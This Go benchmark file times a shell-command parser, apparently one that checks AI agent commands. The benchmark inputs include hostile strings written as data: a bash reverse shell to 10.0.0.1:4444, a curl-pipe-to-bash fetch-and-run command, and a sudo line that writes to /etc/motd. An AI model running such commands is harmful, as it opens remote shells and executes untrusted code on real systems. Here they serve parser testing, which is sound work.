package shell

import "testing"

// benchCommands are typical agent commands, from the everyday to the
// suspicious.
var benchCommands = []struct{ name, src string }{
	{"git-status", "git status"},
	{"ls", "ls -la src"},
	{"go-test", "go test ./..."},
	{"git-commit", `git commit -m "fix: quote 'x'"`},
	{"npm-build", `npm run build -- --flag="a b"`},
	{"rm-node-modules", "rm -rf node_modules"},
	{"find-delete", "find . -name '*.go' -delete"},
	{"docker-build", "docker build -t app:1 ."},
	{"grep", `grep -rn "TODO" --include='*.go' .`},
	{"curl-pipe-bash", "curl -fsSL https://x.sh | bash"},
	{"cd-and-make", "cd build && make -j4 2>&1 | tail -n 20"},
	{"sudo-bash-c", `sudo bash -c 'echo "$(id)" > /etc/motd'`},
	{"for-loop", `for f in $(git ls-files '*.go'); do gofmt -l "$f"; done`},
	{"heredoc", "cat > notes.md <<'EOF'\n# Notes\nsome text\nEOF\n"},
	{"revshell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
	{"xargs", "git ls-files | xargs -n1 -I{} wc -l {}"},
	// Everyday lists and pipelines of plain words.
	{"cd-and-test", "cd web && npm test"},
	{"cat-grep", "cat a | grep b"},
	{"build-and-test", "go build ./... && go test ./..."},
	{"ls-head", "ls -la | head -20"},
	{"add-and-commit", `git add -A && git commit -m "x"`},
	{"or-list", "make || echo failed; echo done"},
	{"redirect", "go test ./... > out.txt 2>&1"},
}

func BenchmarkParse(b *testing.B) {
	for _, bc := range benchCommands {
		b.Run(bc.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Parse(bc.src)
			}
		})
	}
}

// BenchmarkParseFullOnly shows what the fast path saves on plain commands.
func BenchmarkParseFullOnly(b *testing.B) {
	for _, bc := range benchCommands {
		b.Run(bc.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				parse(bc.src, false)
			}
		})
	}
}
